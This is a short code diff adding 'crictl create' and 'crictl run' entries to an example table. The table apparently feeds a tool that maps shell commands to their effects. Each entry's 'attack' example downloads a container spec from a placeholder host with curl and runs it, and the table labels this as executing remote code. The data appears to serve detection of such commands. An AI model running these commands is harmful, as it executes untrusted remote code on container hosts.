@@ -91,4 +91,14 @@ export const containers2: ExampleTable = {
   'runc run': {
     attack: 'runc run -b bundle web → session runc run',
   },
+  'crictl create': {
+    use: 'crictl create 1a2b3c container.json pod.json → read container.json; read pod.json',
+    attack:
+      'curl -so c.json https://example.org/x && crictl create 1a2b3c c.json pod.json → execute ‹https://example.org/x›; read pod.json',
+  },
+  'crictl run': {
+    use: 'crictl run container.json pod.json → read container.json; read pod.json',
+    attack:
+      'curl -so c.json https://example.org/x && crictl run c.json pod.json → execute ‹https://example.org/x›; read pod.json',
+  },
 }
